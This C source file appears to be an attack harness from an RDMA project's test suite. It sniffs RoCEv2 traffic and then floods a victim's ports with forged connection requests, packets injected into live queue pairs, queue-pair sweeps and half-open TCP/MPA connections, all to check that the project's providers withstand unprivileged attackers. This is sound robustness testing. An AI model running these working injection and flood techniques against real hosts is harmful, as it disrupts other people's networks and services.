/* SPDX-License-Identifier: MIT OR Apache-2.0 */
/*
 * Attacks the open ports of programs that use our providers, without a pause and without
 * privileges. The attacker is another user of the host, or a user of another host. Root starts the
 * program. If the attack needs the numbers of the victim's connections, the program first captures
 * packets. Then it becomes another user for good.
 *
 *   attacker ATTACK RATE SOURCE VICTIM SERVICE CLOSED OPEN...
 *
 * RATE is the maximum number of packets or attempts per second, or 0 for no limit. A limited
 * attacker that was held up does not send faster afterwards.
 * SOURCE and VICTIM are IPv4 addresses. SERVICE is the connection qualifier of a service that
 * accepts every request. OPEN are ports of the victim, and CLOSED is a port that is closed. SIGUSR1
 * starts the attack on the open ports, SIGUSR2 sends the same packets to the closed port. Before
 * the first signal, the program sends nothing.
 *
 * The output is `listening` when the program captures packets and `ready` when it waits for a
 * signal. During an attack, it is how many packets have gone to the open or closed ports, and in
 * how many seconds: `open 123456 0.512`.
 */

#define _GNU_SOURCE
#include "dat_test.h"
#include "local_sockets.h"

#include <fcntl.h>
#include <net/ethernet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <sys/resource.h>

/* Linux has this option, but the headers of some C libraries lack it. */
#ifndef IP_BIND_ADDRESS_NO_PORT
#define IP_BIND_ADDRESS_NO_PORT 24
#endif

enum {
    ATTACKER_UID = 65534,
    ROCE_PORT = 4791,
    BATCH_PACKETS = 64,
    POOL_PACKETS = 8192,
    MAX_PACKET_BYTES = 1472,
    MAX_PORTS = 4,
    MAX_CALLERS = 900,
    MAX_TRACKED = 16,
};

static struct in_addr source, victim;
static in_port_t source_port, closed_port, open_ports[MAX_PORTS];
static int port_count;
static uint64_t service_port;

/* A xorshift generator is good enough here: the victim cannot predict its numbers. */
static uint64_t random_number(void)
{
    static uint64_t state = 0x9e3779b97f4a7c15;
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state;
}

static void write_be(uint8_t *at, uint64_t value, int octets)
{
    while (octets-- > 0) {
        at[octets] = (uint8_t)value;
        value >>= 8;
    }
}

static uint64_t read_be(const uint8_t *at, int octets)
{
    uint64_t value = 0;
    for (int i = 0; i < octets; i++)
        value = value << 8 | at[i];
    return value;
}

/* ---- packets --------------------------------------------------------------------------------- */

struct packet {
    size_t length;
    uint8_t octets[MAX_PACKET_BYTES];
};

enum { BTH = 12, DETH = 8, MAD = 256, MAD_HEADER = 24, ICRC = 4 };
enum { SEND_ONLY = 0x04, ACKNOWLEDGE = 0x11, DATAGRAM = 0x64 };
/* The service ID for TCP port 0. The service ID for another port is this number plus the port. */
enum { SERVICE_OF_PORT_0 = 0x01060000 };
enum { REQ = 0x10, REJ = 0x12, DREQ = 0x15 };

static uint32_t crc(uint32_t state, const uint8_t *octets, size_t length)
{
    static uint32_t table[256];
    if (table[1] == 0)
        for (uint32_t i = 0; i < 256; i++) {
            table[i] = i;
            for (int bit = 0; bit < 8; bit++)
                table[i] = table[i] >> 1 ^ (table[i] & 1 ? 0xedb88320 : 0);
        }
    while (length-- > 0)
        state = state >> 8 ^ table[(state ^ *octets++) & 0xff];
    return state;
}

/*
 * Appends the ICRC that is valid for a packet to RoCEv2's port. The kernel sends the sockets'
 * packets with DF and an ID of 0.
 */
static void append_icrc(struct packet *packet)
{
    uint8_t image[8 + 20 + 8 + BTH];
    size_t udp = 8 + packet->length + ICRC;
    uint32_t state;
    memset(image, 0xff, sizeof image);
    image[8] = 0x45;
    write_be(image + 10, 20 + udp, 2);
    write_be(image + 12, 0x4000, 4);
    image[17] = IPPROTO_UDP;
    memcpy(image + 20, &source, 4);
    memcpy(image + 24, &victim, 4);
    write_be(image + 28, source_port, 2);
    write_be(image + 30, ROCE_PORT, 2);
    write_be(image + 32, udp, 2);
    memcpy(image + 36, packet->octets, BTH);
    image[36 + 4] = 0xff;
    state = crc(0xffffffff, image, sizeof image);
    state = ~crc(state, packet->octets + BTH, packet->length - BTH);
    for (int i = 0; i < ICRC; i++)
        packet->octets[packet->length++] = (uint8_t)(state >> 8 * i);
}

static void start_packet(struct packet *packet, int opcode, uint32_t qpn, uint32_t psn)
{
    memset(packet->octets, 0, BTH);
    packet->octets[0] = (uint8_t)opcode;
    packet->octets[1] = 0x40;
    write_be(packet->octets + 2, 0xffff, 2);
    write_be(packet->octets + 5, qpn, 3);
    packet->octets[8] = 0x80;
    write_be(packet->octets + 9, psn, 3);
    packet->length = BTH;
}

/* Starts a message of connection management, and returns its body. */
static uint8_t *start_mad(struct packet *packet, int attribute, uint64_t transaction)
{
    uint8_t *mad = packet->octets + BTH + DETH;
    start_packet(packet, DATAGRAM, 1, 0);
    packet->octets[8] = 0;
    write_be(packet->octets + BTH, 0x80010000, 4);
    write_be(packet->octets + BTH + 4, 1, 4);
    memset(mad, 0, MAD);
    write_be(mad, 0x01070203, 4);
    write_be(mad + 8, transaction, 8);
    write_be(mad + 16, (uint64_t)attribute, 2);
    packet->length += DETH + MAD;
    return mad + MAD_HEADER;
}

/* ---- the victim's connections ---------------------------------------------------------------- */

/* The victim's queue pairs, each with the last PSN that a captured packet to it had. */
static struct {
    uint32_t qpn, psn;
} flows[MAX_TRACKED];

/*
 * The senders of REQs. The first is dapltest's control connection, which ends when the transfer
 * begins. The second is the transfer.
 */
static struct {
    uint64_t guid, service;
    uint32_t qpn;
} callers[MAX_TRACKED];

static int flow_count, caller_count;

static void track_flow(uint32_t qpn, uint32_t psn)
{
    int i = 0;
    while (i < flow_count && flows[i].qpn != qpn)
        i++;
    if (i == MAX_TRACKED)
        return;
    flows[i].qpn = qpn;
    flows[i].psn = psn;
    if (i == flow_count)
        flow_count++;
}

static void track_caller(uint64_t guid, uint32_t qpn, uint64_t service)
{
    for (int i = 0; i < caller_count; i++)
        if (callers[i].qpn == qpn)
            return;
    if (caller_count == MAX_TRACKED)
        return;
    callers[caller_count].guid = guid;
    callers[caller_count].qpn = qpn;
    callers[caller_count++].service = service;
}

static void track_packet(const uint8_t *packet, size_t length)
{
    const uint8_t *body = packet + BTH + DETH + MAD_HEADER;
    if (length < BTH)
        return;
    if (packet[0] >> 5 == 0)
        track_flow((uint32_t)read_be(packet + 5, 3), (uint32_t)read_be(packet + 9, 3));
    if (packet[0] != DATAGRAM || length < BTH + DETH + MAD)
        return;
    if (read_be(packet + BTH + DETH + 16, 2) == REQ)
        track_caller(read_be(body + 16, 8), (uint32_t)read_be(body + 32, 3),
                     read_be(body + 8, 8));
}

/*
 * Captures packets until both ends of two connections are known: dapltest controls its test over
 * one connection and transfers over the other.
 */
static void sniff_connections(void)
{
    struct timeval limit = {.tv_sec = WAIT_LIMIT_SECONDS};
    static uint8_t packet[65536];
    int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
    EXPECT(fd >= 0, "packet socket: %s", strerror(errno));
    EXPECT(setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit) == 0, "setsockopt: %s",
           strerror(errno));
    puts("listening");
    while (flow_count < 4 || caller_count < 2) {
        ssize_t length = recv(fd, packet, sizeof packet, 0);
        size_t ip = (size_t)(packet[0] & 0xf) * 4;
        EXPECT(length > 0, "%d queue pairs and %d callers were seen: %s", flow_count, caller_count,
               strerror(errno));
        if (packet[9] != IPPROTO_UDP || (size_t)length < ip + 8)
            continue;
        if (read_be(packet + ip + 2, 2) == ROCE_PORT)
            track_packet(packet + ip + 8, (size_t)length - ip - 8);
    }
    close(fd);
}

/* ---- attacks with datagrams ------------------------------------------------------------------ */

/* Random octets of any length. Every other packet has a valid ICRC. */
static void garbage(struct packet *packet, uint64_t n)
{
    packet->length = random_number() % (MAX_PACKET_BYTES - ICRC);
    for (size_t i = 0; i < packet->length; i++)
        packet->octets[i] = (uint8_t)random_number();
    if (n % 2 == 0 || packet->length < BTH)
        return;
    packet->length &= ~(size_t)3;
    append_icrc(packet);
}

static void make_req(struct packet *packet, uint64_t guid, uint32_t qpn, uint64_t service)
{
    uint8_t *body = start_mad(packet, REQ, random_number());
    uint8_t *path = body + 52, *private = body + 140;
    write_be(body, random_number(), 4);
    write_be(body + 8, service, 8);
    write_be(body + 16, guid, 8);
    write_be(body + 32, qpn, 3);
    body[35] = body[39] = 4;
    body[43] = 17 << 3;
    write_be(body + 44, random_number(), 3);
    body[47] = 17 << 3 | 7;
    write_be(body + 48, 0xffff, 2);
    body[50] = 3 << 4 | 7;
    body[51] = 15 << 4;
    write_be(path, 0xffffffff, 4);
    write_be(path + 14, 0xffff, 2);
    memcpy(path + 16, &source, 4);
    write_be(path + 30, 0xffff, 2);
    memcpy(path + 32, &victim, 4);
    path[41] = 64;
    path[43] = 17 << 3;
    private[1] = 0x40;
    write_be(private + 2, random_number(), 2);
    memcpy(private + 16, &source, 4);
    memcpy(private + 32, &victim, 4);
    append_icrc(packet);
}

/*
 * Makes valid connection requests for services that do not exist: no program listens on these
 * privileged ports.
 */
static void requests(struct packet *packet, uint64_t n)
{
    make_req(packet, random_number() | 1, (uint32_t)random_number() & 0xffffff,
             SERVICE_OF_PORT_0 + n % 1024);
}

/*
 * Makes connection requests that the service accepts but that the caller never establishes. Each
 * request comes from a different caller.
 */
static void accepted_requests(struct packet *packet, uint64_t n)
{
    (void)n;
    make_req(packet, random_number() | 1, (uint32_t)random_number() & 0xffffff,
             SERVICE_OF_PORT_0 + service_port);
}

/*
 * Makes connection requests that name a queue pair that is connected already: the queue pair of the
 * transfer's client. The requests are for dapltest's control service, which listens until dapltest
 * ends.
 */
static void stale_requests(struct packet *packet, uint64_t n)
{
    (void)n;
    make_req(packet, callers[1].guid, callers[1].qpn, callers[0].service);
}

static void make_send(struct packet *packet, uint32_t qpn, uint32_t psn, size_t length)
{
    start_packet(packet, SEND_ONLY, qpn, psn);
    memset(packet->octets + BTH, 0xee, length);
    packet->length += length;
    append_icrc(packet);
}

/*
 * Makes packets and messages for the victim's connections. They come from a port that is not the
 * peer's.
 */
static void injections(struct packet *packet, uint64_t n)
{
    enum { ACK = 0x1f, NAK = 0x60 };
    int i = (int)(n % (uint64_t)flow_count);
    uint32_t qpn = flows[i].qpn, psn = flows[i].psn + (uint32_t)n;
    uint8_t *body;
    switch (n / (uint64_t)flow_count % 5) {
    case 0:
        make_send(packet, qpn, psn, 64);
        return;
    case 1:
    case 2:
        start_packet(packet, ACKNOWLEDGE, qpn, psn);
        write_be(packet->octets + BTH, n % 2 ? ACK : NAK + n / 2 % 4, 1);
        write_be(packet->octets + BTH + 1, n, 3);
        packet->length += 4;
        break;
    case 3:
        body = start_mad(packet, DREQ, random_number());
        write_be(body, random_number(), 4);
        write_be(body + 4, random_number(), 4);
        write_be(body + 8, qpn, 3);
        break;
    default:
        body = start_mad(packet, REJ, random_number());
        write_be(body, random_number(), 4);
        write_be(body + 4, random_number(), 4);
        body[8] = 2 << 6;
        write_be(body + 10, 28, 2);
    }
    append_icrc(packet);
}

/*
 * Sends all PSNs, one after the other, to a guessed queue pair, and then guesses another queue
 * pair.
 */
static void sweep(struct packet *packet, uint64_t n)
{
    /*
     * The guess contains one of the slots 0 to 3, which exist most likely, because the lowest slots
     * are assigned first.
     */
    static uint32_t guess;
    if (n % (1 << 24) == 0)
        guess = ((uint32_t)random_number() & 0xffff80) | (uint32_t)(n >> 24) % 4;
    make_send(packet, guess, (uint32_t)n & 0xffffff, 16);
}

static const struct attack {
    const char *name;
    void (*make)(struct packet *, uint64_t);
    /* Whether the attack needs the numbers of the victim's connections. */
    bool needs_connections;
    /* Whether each packet is new. If not, POOL_PACKETS packets are sent again and again. */
    bool never_repeats;
} ATTACKS[] = {
    {"garbage", garbage, false, false},      {"requests", requests, false, false},
    {"stale_requests", stale_requests, true, false}, {"injections", injections, true, false},
    {"sweep", sweep, false, true},           {"accepted_requests", accepted_requests, false, true},
};

static int udp_socket(void)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr = source};
    socklen_t length = sizeof address;
    int fd = socket(AF_INET, SOCK_DGRAM, 0), discover = IP_PMTUDISC_DO;
    EXPECT(fd >= 0 && bind(fd, (struct sockaddr *)&address, length) == 0 &&
               getsockname(fd, (struct sockaddr *)&address, &length) == 0 &&
               setsockopt(fd, IPPROTO_IP, IP_MTU_DISCOVER, &discover, sizeof discover) == 0,
           "UDP socket: %s", strerror(errno));
    source_port = ntohs(address.sin_port);
    return fd;
}

/* Sends `count` datagrams to an address, and returns how many were sent. */
static long send_batch(const struct attack *attack, struct sockaddr_in *to, int count)
{
    static struct packet *pool;
    static struct mmsghdr batch[BATCH_PACKETS];
    static struct iovec pieces[BATCH_PACKETS];
    static uint64_t next;
    static int fd;
    int sent;
    if (pool == NULL) {
        fd = udp_socket();
        pool = calloc(POOL_PACKETS, sizeof *pool);
        EXPECT(pool != NULL, "no memory");
        for (uint64_t n = 0; n < POOL_PACKETS && !attack->never_repeats; n++)
            attack->make(&pool[n], n);
    }
    for (int i = 0; i < count; i++, next++) {
        struct packet *packet = &pool[next % POOL_PACKETS];
        if (attack->never_repeats)
            attack->make(packet, next);
        pieces[i] = (struct iovec){packet->octets, packet->length};
        batch[i].msg_hdr = (struct msghdr){
            .msg_name = to, .msg_namelen = sizeof *to, .msg_iov = &pieces[i], .msg_iovlen = 1};
    }
    sent = sendmmsg(fd, batch, (unsigned)count, 0);
    /* The error may belong to an earlier datagram. */
    EXPECT(sent > 0 || errno == ECONNREFUSED || errno == ENOBUFS, "sendmmsg: %s", strerror(errno));
    return sent > 0 ? sent : 0;
}

/* ---- attacks on other sockets ---------------------------------------------------------------- */

/* What a TCP caller sends first, if anything. */
static const char WORDS[300] = "GET / HTTP/1.1";
/*
 * A request of MPA's revision 2 in the peer-to-peer model, which promises an RDMA write as the
 * first frame (RFC 6581). That frame never follows.
 */
static const char REQUEST[] = "MPA ID Req Frame\x10\2\0\4\x80\4\x80\4";

/*
 * Opens a TCP connection and sends these octets. The latest MAX_CALLERS connections stay open.
 */
static long open_connection(const struct sockaddr_in *to, const char *octets, size_t length)
{
    static int connections[MAX_CALLERS], next;
    struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr = source};
    int on = 1, fd;
    if (connections[next] > 0)
        close(connections[next]);
    fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    EXPECT(fd >= 0, "TCP socket: %s", strerror(errno));
    connections[next] = fd;
    next = (next + 1) % MAX_CALLERS;
    EXPECT(setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof on) == 0 &&
               bind(fd, (struct sockaddr *)&from, sizeof from) == 0,
           "TCP socket: %s", strerror(errno));
    /* On the loopback device, the connection is established or refused when connect returns. */
    if ((connect(fd, (const struct sockaddr *)to, sizeof *to) == 0 || errno == EINPROGRESS) &&
        length > 0)
        send(fd, octets, length, MSG_NOSIGNAL);
    return 1;
}

/*
 * Attacks all local sockets that the kernel lists or, if `closed`, a socket name that no socket
 * has.
 */
static long attack_local_sockets(bool closed)
{
    struct sockaddr_un nobody = {.sun_family = AF_UNIX, .sun_path = "/tmp/opendat-nobody/4791"};
    struct attempts attempts = {0, 0};
    if (closed)
        for (; attempts.made < BATCH_PACKETS; attempts.made++)
            is_accepted(attempts.made % 2 ? SOCK_STREAM : SOCK_DGRAM, &nobody, sizeof nobody);
    else
        attack_all(&attempts);
    EXPECT(attempts.accepted == 0, "%ld connections and datagrams of another user were accepted",
           attempts.accepted);
    return attempts.made;
}

/* ---- control --------------------------------------------------------------------------------- */

/* Sends at most `count` packets, or makes one batch of attempts. Returns their number. */
static long attack_once(const char *name, const struct attack *attack, bool closed, int count)
{
    static int next;
    in_port_t port = closed ? closed_port : open_ports[next++ % port_count];
    struct sockaddr_in to = {
        .sin_family = AF_INET, .sin_addr = victim, .sin_port = htons(port)};
    if (attack != NULL)
        return send_batch(attack, &to, count);
    if (strcmp(name, "local_sockets") == 0)
        return attack_local_sockets(closed);
    if (strcmp(name, "babbling_callers") == 0)
        return open_connection(&to, WORDS, sizeof WORDS);
    if (strcmp(name, "unconfirmed_callers") == 0)
        return open_connection(&to, REQUEST, sizeof REQUEST - 1);
    return open_connection(&to, NULL, 0);
}

static const struct attack *find_attack(const char *name)
{
    static const char *const OTHERS[] = {"local_sockets", "silent_callers", "babbling_callers",
                                         "unconfirmed_callers"};
    for (size_t i = 0; i < sizeof ATTACKS / sizeof *ATTACKS; i++)
        if (strcmp(ATTACKS[i].name, name) == 0)
            return &ATTACKS[i];
    for (size_t i = 0; i < sizeof OTHERS / sizeof *OTHERS; i++)
        if (strcmp(OTHERS[i], name) == 0)
            return NULL;
    FAIL("%s is not an attack", name);
}

int main(int argc, char **argv)
{
    const struct timespec no_time = {0, 0};
    const struct attack *attack;
    struct {
        long packets;
        double seconds;
    } progress[2] = {{0, 0}, {0, 0}};
    sigset_t signals;
    double last, reported;
    int active_signal, rate;

    EXPECT(argc >= 8 && argc - 7 <= MAX_PORTS,
           "usage: attacker ATTACK RATE SOURCE VICTIM SERVICE CLOSED OPEN...");
    attack = find_attack(argv[1]);
    rate = atoi(argv[2]);
    EXPECT(inet_pton(AF_INET, argv[3], &source) == 1 && inet_pton(AF_INET, argv[4], &victim) == 1,
           "%s or %s is not an IPv4 address", argv[3], argv[4]);
    service_port = (uint64_t)atoi(argv[5]);
    closed_port = (in_port_t)atoi(argv[6]);
    for (port_count = 0; port_count < argc - 7; port_count++)
        open_ports[port_count] = (in_port_t)atoi(argv[7 + port_count]);

    sigemptyset(&signals);
    sigaddset(&signals, SIGUSR1);
    sigaddset(&signals, SIGUSR2);
    sigprocmask(SIG_BLOCK, &signals, NULL);
    if (attack != NULL && attack->needs_connections)
        sniff_connections();
    EXPECT(setresgid(ATTACKER_UID, ATTACKER_UID, ATTACKER_UID) == 0 &&
               setresuid(ATTACKER_UID, ATTACKER_UID, ATTACKER_UID) == 0,
           "setresuid: %s", strerror(errno));
    puts("ready");

    active_signal = sigwaitinfo(&signals, NULL);
    for (reported = last = now();;) {
        bool closed;
        double time;
        int signal = sigtimedwait(&signals, NULL, &no_time);
        if (signal > 0)
            active_signal = signal;
        closed = active_signal == SIGUSR2;
        progress[closed].packets +=
            attack_once(argv[1], attack, closed, rate > 0 ? 1 : BATCH_PACKETS);
        while (rate > 0 && now() - last < 1.0 / rate)
            nanosleep(&(struct timespec){0, 20000}, NULL);
        time = now();
        progress[closed].seconds += time - last;
        last = time;
        if (time - reported > 0.05) {
            printf("%s %ld %.3f\n", closed ? "closed" : "open", progress[closed].packets,
                   progress[closed].seconds);
            reported = time;
        }
    }
}
